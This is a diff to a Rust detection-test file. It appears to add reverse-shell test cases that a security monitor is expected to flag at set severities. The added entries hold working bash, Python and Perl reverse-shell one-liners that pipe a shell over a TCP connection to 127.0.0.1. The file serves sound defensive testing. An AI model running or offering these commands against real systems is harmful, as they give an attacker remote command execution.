@@ -20,6 +20,7 @@ const TECHNIQUES: &[Technique] = &[SHELL, RAW];
 const DIRECT: Expected = Expected::Alert("reverse_shell", Severity::High);
 const INWARD: Expected = Expected::Alert("reverse_shell", Severity::Medium);
 const LOCAL: Expected = Expected::Alert("reverse_shell", Severity::Medium);
+const ANSWERS: Expected = Expected::Alert("reverse_shell", Severity::Medium);
 const HELD: Expected = Expected::Alert("reverse_shell", Severity::Medium);
 
 macro_rules! shell {
@@ -262,6 +263,62 @@ pub(crate) const FAMILY: Family = Family {
             "-MSocket",
             "-e",
             "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(PORT,inet_aton('127.0.0.1')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh');"
+        ),
+        shell!(
+            "read-loop",
+            ANSWERS,
+            "bash that has each line of a connection executed, on no stream of its own",
+            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read ...; sh -c ... >&5'",
+            "v4",
+            "command",
+            "{find bash}",
+            "-c",
+            "exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read -r line; do sh -c \"$line\" 2>&5 >&5; done"
+        ),
+        shell!(
+            "script",
+            HELD,
+            "a shell on a terminal that `script` makes, which has a connection as its input",
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT; script -qc sh /dev/null <&3 >&3 2>&3'",
+            "v4",
+            "command",
+            "{find bash}",
+            "-c",
+            "exec 3<>/dev/tcp/127.0.0.1/PORT; {find script} -qc /bin/sh /dev/null <&3 >&3 2>&3"
+        ),
+        shell!(
+            "late",
+            HELD,
+            "a shell on pipes whose holder connects only when it runs",
+            "python3 -c 'subprocess.Popen(sh), connect, read and write in turn'",
+            "v4",
+            "command",
+            "{find python3}",
+            "-c",
+            "import socket,subprocess as p,time;h=p.Popen(['/bin/sh'],stdin=-1,stdout=-1,bufsize=0);time.sleep(.2);s=socket.create_connection(('127.0.0.1',PORT));h.stdin.write(s.recv(4096));s.sendall(h.stdout.readline());s.recv(1)"
+        ),
+        shell!(
+            "errands-python",
+            HELD,
+            "Python that runs one command after the other and sends back what each said",
+            "python3 -c 'connect, subprocess.run(line, shell=True, capture_output=True)'",
+            "v4",
+            "command",
+            "{find python3}",
+            "-c",
+            "import socket,subprocess as p\ns=socket.create_connection(('127.0.0.1',PORT))\nfor line in s.makefile(): s.sendall(p.run('id >/dev/null; '+line,shell=True,capture_output=True).stdout)"
+        ),
+        shell!(
+            "errands-perl",
+            HELD,
+            "Perl that runs one command after the other and sends back what each said",
+            "perl -MSocket -e 'connect, print S `line` while <S>'",
+            "v4",
+            "command",
+            "{find perl}",
+            "-MSocket",
+            "-e",
+            "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(PORT,inet_aton('127.0.0.1')));select(S);$|=1;print `id >/dev/null; $_` while <S>;"
         ),
         shell!(
             "nc",
